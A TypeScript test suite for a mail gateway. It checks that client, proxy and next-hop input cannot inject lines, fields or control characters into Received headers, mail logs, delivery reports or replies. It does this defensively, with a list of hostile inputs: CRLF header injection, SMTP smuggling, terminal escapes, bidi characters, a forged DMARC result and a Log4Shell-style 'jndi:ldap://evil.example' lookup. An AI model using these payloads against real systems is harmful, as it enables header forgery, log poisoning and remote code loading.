/**
 * Injection into what others read: our Received field, the lines of the mail log, reports, our own replies. Whatever a
 * client, a proxy or a next hop says, it ends no line, opens no field and holds no control character there; a name in a log
 * or report does not turn the direction of what stands beside it.
 *
 * Elsewhere: any text at all in a line, test/unit/observability/mail-log.test.ts, and in an event,
 * test/unit/platform/node/log.test.ts; a next hop's reply in a report, test/unit/gateway/bounce/dsn.test.ts; any inputs of
 * a report, the target dsn of test/fuzz.
 */
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';

import { GatewayMetrics } from '../../src/observability/gateway-metrics.js';
import { MailLog } from '../../src/observability/mail-log.js';
import { composeDsn } from '../../src/gateway/bounce/dsn.js';
import { MailRecord } from '../../src/gateway/daemon/mail-record.js';
import type { Authenticator } from '../../src/gateway/inbound/auth/authenticator.js';
import type { Envelope } from '../../src/gateway/mail-types.js';
import { authenticatorOf, scramLine } from '../dialog/people.js';
import type { Kept } from '../dialog/memory-reception.js';
import { SessionWorld, mail } from '../unit/gateway/outbound/pure/session-world.js';
import { NO_LOG, WALL_MS } from '../inbound/desk.js';
import { VirtualDesk } from './virtual-desk.js';
import type { VirtualOptions } from './virtual-desk.js';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** What has ended lines, opened fields, driven terminals or broken readers somewhere. */
const HOSTILE: readonly string[] = [
  ...Array.from({ length: 0x20 }, (_none, code) => `x${String.fromCharCode(code)}y`),
  '\r\nX-Injected: yes', '\nX-Injected: yes', '\r\n X-Folded', '\r\n\r\nbody', 'x\r\n.\r\nMAIL FROM:<evil@inner.example>',
  '\x7f', '\u0085X-Injected: yes', '\u009b31m', '\u2028X-Injected: yes', '\u2029', '\u202egnp.exe', '\u2066x\u2069', '\u200ex\u200f', '\u061c', '\ufeff', '\u0000', '\ufffe', '\u{e0001}',
  '","event":"delivered","x":"', '"}\n{"event":"received"}', '\\u000a', '\\', '"', '\u001b[2J\u001b]0;owned\u0007', '<script>', '${jndi:ldap://evil.example}', '%0d%0aX-Injected: yes', '=?utf-8?q?=0d=0aX-Injected=3A_yes?=',
  'a)b(c', '>; evil', ';evil', '(', '(\\', '@@@', 'x'.repeat(1500), '\u00fc'.repeat(600), '\u{1f4e7}'.repeat(200),
];

/** A desk that writes its mail log as a gateway does. */
class LoggedDesk {
  readonly world: VirtualDesk;
  readonly #texts: string[] = [];
  readonly #mailLog = new MailLog({ gateway: 'gw-1', enabled: true }, { write: (text) => { this.#texts.push(text); } });

  constructor(options: VirtualOptions = {}) {
    const record = new MailRecord({
      clock: { nowMs: () => 0, wallMs: () => WALL_MS }, log: NO_LOG,
      mailLog: this.#mailLog, metrics: new GatewayMetrics(), mirrorsOf: () => undefined, routeNameOf: () => '',
    });
    this.world = new VirtualDesk({ idleCommandsMax: 10_000, ...options, mailLog: record });
  }

  /** Its lines since the last look: each is one JSON object of known fields, and printable ASCII. */
  lines(context: string): Record<string, unknown>[] {
    this.#mailLog.flush();
    const text = this.#texts.splice(0).join('');
    assert.match(text, /^[\x20-\x7e\n]*$/, context);
    return text.split('\n').slice(0, -1).map((line) => {
      const fields = JSON.parse(line) as Record<string, unknown>;
      for (const field of Object.keys(fields)) assert.ok(FIELDS.includes(field), `${context}: a field ${field}`);
      assert.match(String(fields['event']), /^(received|rejected)$/);
      return fields;
    });
  }
}

const FIELDS = ['level', 'time', 'event', 'gateway', 'queue_id', 'queue', 'message_id', 'from', 'to', 'listener', 'client', 'client_port', 'helo', 'size', 'nrcpt', 'tls', 'user', 'limit', 'mirrors', 'epoch', 'delay', 'reason', 'reply'];

/** Our field and nothing else stands in front of the content, and says nothing beyond its grammar (RFC 5321 4.4). */
function judgeReceived({ content }: Kept, sent: string, context: string): void {
  const all = content.toString('latin1');
  assert.ok(all.endsWith(sent), context);
  const front = all.slice(0, all.length - sent.length);
  const grammar = /^Received: from [A-Za-z0-9.:_[\]?-]{1,255} \(\[(?:IPv6:)?[0-9a-f.:]+\]\)\r\n\tby mx\.test with (?:UTF8)?E?SMTPS?A? id [0-9A-Z]+(?:\r\n\tfor <[\x20-\x7e]{1,320}>; |;\r\n\t)\w{3}, \d{2} \w{3} \d{4} \d{2}:\d{2}:\d{2} \+0000\r\n$/;
  assert.match(front, grammar, `${context}: ${JSON.stringify(front)}`);
}

let people: Authenticator;
before(async () => {
  people = authenticatorOf([await scramLine('alice@b.example', 'secret', '*')]);
});

/** Where a client puts it, before the message. */
const PLACES: readonly (readonly [string, (text: string) => readonly string[]])[] = [
  ['HELO', (text) => [`HELO ${text}`]],
  ['EHLO', (text) => [`EHLO ${text}`]],
  ['EHLO, part of a name', (text) => [`EHLO a${text}.example`]],
  ['MAIL', (text) => [`MAIL FROM:<${text}>`, `MAIL FROM:<a${text}@b.example> SMTPUTF8`, `MAIL FROM:<"a${text}"@b.example> SMTPUTF8`, `MAIL FROM:<a@${text}> SMTPUTF8`, `MAIL ${text}`, `MAIL FROM:<a@b.example> ENVID=${text}`, `MAIL FROM:<a@b.example> ${text}=${text}`]],
  ['RCPT', (text) => ['MAIL FROM:<a@b.example> SMTPUTF8', `RCPT TO:<${text}>`, `RCPT TO:<a${text}@d.example>`, `RCPT TO:<"a${text}"@d.example>`, `RCPT TO:<a@noroute.example> ${text}`, `RCPT TO:<a@d.example> ORCPT=utf-8;a${text}`, `RCPT TO:<a@d.example> ORCPT=rfc822;${text}`]],
  ['XCLIENT', (text) => [`XCLIENT NAME=${text}`, `XCLIENT HELO=${text} NAME=${text} LOGIN=${text}`, `XCLIENT ADDR=${text}`, 'XCLIENT HELO=a+0D+0AX-Injected:+20yes', 'XCLIENT NAME=a+C2+85b', 'XCLIENT LOGIN=a+0Ab', `XCLIENT ADDR=192.0.2.7${text}`]],
  ['other commands', (text) => [text, `NOOP ${text}`, `VRFY ${text}`, `${text} x`, `BDAT ${text.slice(0, 3)}x`.replace(/^BDAT/, 'HELP')]],
  ['AUTH', (text) => [`AUTH PLAIN ${base64(`\0${text}\0wrong`)}`, `AUTH ${text}`, `AUTH PLAIN ${base64(`${text}\0alice@b.example\0x`)}`]],
];

describe('what a client says', () => {
  for (const [place, linesOf] of PLACES) {
    test(`in ${place} stays within its line of the log, its field and its reply`, async () => {
      for (const text of HOSTILE) {
        const context = `${place}: ${JSON.stringify(text.slice(0, 40))}`;
        const isAuth = place === 'AUTH';
        const desk = new LoggedDesk({ xclientNetworks: ['0.0.0.0/0'], xclientLogin: true, relayNetworks: ['0.0.0.0/0'], isSubmission: isAuth, isTlsFirst: isAuth, authenticator: isAuth ? people : undefined });
        const client = desk.world.connect('198.51.100.7');
        if (isAuth) client.secured();
        if (!/^(HELO|EHLO)/.test(place)) client.send('EHLO client.example\r\n');
        let said = '';
        for (const line of linesOf(text)) {
          client.send(Buffer.from(`${line}\r\n`, 'utf8'));
          if (isAuth) for (let turn = 0; turn < 3; turn++) await new Promise(setImmediate);
          said += client.heard();
        }
        for (const line of said.split('\r\n')) assert.match(line, /^(?:\d{3}[ -][\x20-\x7e]*)?$/, context);
        const refused = desk.lines(context);
        for (const fields of refused) assert.equal(fields['event'], 'rejected', context);
        client.send('RSET\r\nEHLO client.example\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nx: y\r\n\r\nz\r\n.\r\n');
        if (client.connection.isOver || isAuth) continue;
        const kept = desk.world.reception.kept.at(-1);
        assert.ok(kept !== undefined, context);
        judgeReceived(kept, 'x: y\r\n\r\nz\r\n', context);
      }
    });
  }

  test('in its name, its addresses and its Message-ID goes with its message and opens nothing', () => {
    let takenNames = 0;
    // The end of DATA is that of the message: smuggling-in.test.ts.
    for (const text of HOSTILE.filter((each) => !each.includes('\r\n.\r\n'))) {
      for (const body of [`Message-ID: ${text}\r\n\r\nx\r\n`, `message-id:\r\n ${text}\r\n\r\nx\r\n`]) {
        const context = JSON.stringify(text.slice(0, 40));
        const desk = new LoggedDesk();
        const client = desk.world.connect();
        const sent = Buffer.from(body, 'utf8').toString('latin1');
        client.send(Buffer.from(`EHLO ${text}\r\n`)).send('EHLO x\r\n').send(Buffer.from(`EHLO a${text}b\r\n`));
        for (const line of [`MAIL FROM:<a${text}@b.example> SMTPUTF8`, `MAIL FROM:<"a${text}"@b.example> SMTPUTF8`, 'MAIL FROM:<a@b.example> SMTPUTF8', `RCPT TO:<"c${text}"@d.example>`]) client.send(Buffer.from(`${line}\r\n`));
        // The only recipient is named in the field.
        if (client.session.transaction?.recipientCount === 0) client.send('RCPT TO:<c@d.example>\r\n');
        client.send('DATA\r\n');
        client.send(`${sent}.\r\n`);
        for (const kept of desk.world.reception.kept) judgeReceived(kept, sent.replace(/^\./gm, ''), context);
        const received = desk.lines(context).filter((fields) => fields['event'] === 'received');
        assert.equal(received.length, desk.world.reception.kept.length, context);
        if (received.some((fields) => String(fields['from']).length > 'a@b.example'.length)) takenNames++;
        client.leave();
      }
    }
    assert.ok(takenNames > 20, 'some of it is an address');
  });

  test('is no message where its first line begins with a blank, which would be the rest of our field above it', () => {
    const bodies = [' (evil)\r\nAuthentication-Results: mx.test; dmarc=pass\r\nx: y\r\n\r\nz\r\n', '\tevil\r\n\r\nz\r\n', ' \r\n', '. evil\r\n\r\nz\r\n', '.\tevil\r\n'];
    for (const body of bodies) {
      const counted = body.replace(/^\./, '');
      for (const [how, text] of [['DATA', `DATA\r\n${body}.\r\n`], ['BDAT', `BDAT ${String(counted.length)} LAST\r\n${counted}`], ['chunks', `BDAT 1\r\n${counted.slice(0, 1)}BDAT ${String(counted.length - 1)} LAST\r\n${counted.slice(1)}`]] as const) {
        for (const sizes of [[1], [2], [text.length]]) {
          const desk = new LoggedDesk();
          const client = desk.world.connect();
          client.send('EHLO a\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\n').heard();
          client.sendCut(Buffer.from(text), sizes);
          const context = `${how} ${JSON.stringify(body)}`;
          assert.ok(client.heard().includes('550 5.6.0 Message begins with a blank'), context);
          assert.equal(desk.world.reception.kept.length, 0, context);
          assert.deepEqual(desk.lines(context).filter(({ reason }) => reason === 'leading-blank').length, 1, context);
          client.send('RSET\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nx: y\r\n z\r\n\r\n z\r\n.\r\n');
          assert.equal(desk.world.reception.kept.length, 1, 'others may fold theirs');
        }
      }
    }
  });

  test('by its balancer, in any field of a PROXY header, is in no line and no field', () => {
    for (const text of HOSTILE) {
      const value = Buffer.from(text, 'utf8').subarray(0, 1000);
      // ALPN, AUTHORITY, UNIQUE_ID, NETNS, and NOOP (proxy-protocol.txt 2.2).
      for (const type of [0x01, 0x02, 0x05, 0x30, 0x04]) {
        const fields = Buffer.concat([Buffer.from([type, value.length >> 8, value.length & 0xff]), value]);
        const length = 12 + fields.length;
        const header = Buffer.concat([Buffer.from([0x0d, 0x0a, 0x0d, 0x0a, 0, 0x0d, 0x0a, 0x51, 0x55, 0x49, 0x54, 0x0a, 0x21, 0x11, length >> 8, length & 0xff, 192, 0, 2, 7, 127, 0, 0, 1, 0x12, 0x34, 0, 25]), fields]);
        const desk = new LoggedDesk({ proxyNetworks: ['127.0.0.0/8'], relayNetworks: ['192.0.2.0/24'] });
        const client = desk.world.connect();
        client.send(header).send('EHLO a\r\nNONSENSE\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nx\r\n.\r\n');
        const [kept] = desk.world.reception.kept;
        assert.ok(kept !== undefined);
        judgeReceived(kept, 'x\r\n', JSON.stringify(text));
        assert.deepEqual(desk.lines('').map((each) => each['client']), ['192.0.2.7', '192.0.2.7']);
      }
    }
  });
});

function envelopeOf(more: Partial<Envelope>): Envelope {
  return { messageId: 1, queueClass: 'mail', queueName: 'q', reversePath: 'a@b.example', recipients: [], flags: 0, ret: 0, envid: '', arrivalWallMs: WALL_MS, expiryWallMs: WALL_MS, client: '', helo: '', ...more };
}

/** Names of the fields of a header, a line that continues one left out. */
function fieldNames(header: string): string[] {
  return header.split('\r\n').filter((line) => line !== '' && !/^[ \t]/.test(line)).map((line) => line.slice(0, Math.max(0, line.indexOf(':'))));
}

describe('a report', () => {
  const STATUS = ['Reporting-MTA', 'Original-Envelope-Id', 'Arrival-Date', 'Original-Recipient', 'Final-Recipient', 'Action', 'Status', 'Remote-MTA', 'Diagnostic-Code', 'Last-Attempt-Date'];

  test('has the fields of a report, whatever stands in addresses, parameters, replies and names', () => {
    for (const reversePath of ['a@b.example', '\u00e4@b.example']) {
      for (const text of HOSTILE) {
        const recipient = { address: `c${text}@d.example`, notify: 0, orcpt: `utf-8;c${text}` };
        const report = Buffer.from(composeDsn({
          kind: 'failure', reportingMta: 'mx.test', dsnId: '0000000000B', queueId: '0000000000A', dateWallMs: WALL_MS,
          envelope: envelopeOf({ reversePath: `${reversePath.charAt(0)}${text}@b.example`, envid: text, recipients: [recipient] }),
          recipients: [{ recipient, action: 'failed', code: 550, enhanced: `5.1.1${text}`, text: `550 ${text}`, remoteMta: `mx${text}`, lastAttemptWallMs: WALL_MS }],
          content: Buffer.from('x: y\r\n\r\nz\r\n'),
        })).toString('utf8');
        const context = `${reversePath}: ${JSON.stringify(text.slice(0, 40))}`;
        assert.match(report, /^(?:[^\0-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r\n)*$/, context);
        assert.ok(!/^(\r\n)?X-Injected|^X-/m.test(report), context);
        const [header = '', ...rest] = report.split('\r\n\r\n');
        assert.deepEqual(fieldNames(header), ['Date', 'From', 'To', 'Subject', 'Message-ID', 'Auto-Submitted', 'MIME-Version', 'Content-Type', 'Content-Transfer-Encoding'], context);
        const status = rest.join('\r\n\r\n').split(/^Content-Type: message\/(?:global-)?delivery-status\r\nContent-Transfer-Encoding: \w+\r\n\r\n/m)[1]?.split('\r\n--')[0] ?? '';
        assert.ok(fieldNames(status).length >= 6 && fieldNames(status).every((name) => STATUS.includes(name)), `${context}: ${status}`);
        assert.equal(report.split(/^--report-/m).length - 1, 4, context);
      }
    }
  });
});

describe('what a next hop says', () => {
  test('is one line of printable ASCII in results, logs and reports', () => {
    for (const text of HOSTILE) {
      const world = new SessionWorld().ready('PIPELINING').begin(mail(['c@d.example']));
      // A line end in it is one of the reply; whatever else comes then ends the session.
      world.session.onData(Buffer.from(`550 5.1.1 no ${text}\r\n`, 'utf8'));
      world.session.onClose('gone');
      const context = JSON.stringify(text.slice(0, 40));
      assert.equal(world.results.length + world.log.filter((line) => line === 'stale').length, 1, context);
      for (const result of world.results) {
        assert.match(result.text, /^[\x20-\x7e]{0,600}$/, context);
        assert.match(result.enhanced, /^\d\.\d{1,3}\.\d{1,3}$/, context);
      }
    }
  });
});
